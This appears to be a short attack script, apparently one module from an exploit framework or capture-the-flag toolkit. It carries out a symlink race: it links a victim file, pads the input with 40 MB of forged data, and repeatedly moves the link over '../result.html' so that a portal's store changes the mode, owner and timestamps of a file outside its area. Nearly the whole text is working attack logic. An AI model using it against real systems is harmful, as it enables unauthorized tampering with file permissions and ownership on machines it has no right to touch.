"""Renames a link to an outside file over the page, so that the store changes the mode of that file.

gains: changes to the mode, owner and time of a file of the portal
needs: chain
limits: timeout_s=6
repeat: 50
ends: any
"""

os.symlink(V["victim"], "link")
forge(b"x" * 40_000_000)
chain(60 + 8 * ROUND, "/bin/mv", "-T", "link", "../result.html")
tell(b"done")
time.sleep(0.3)
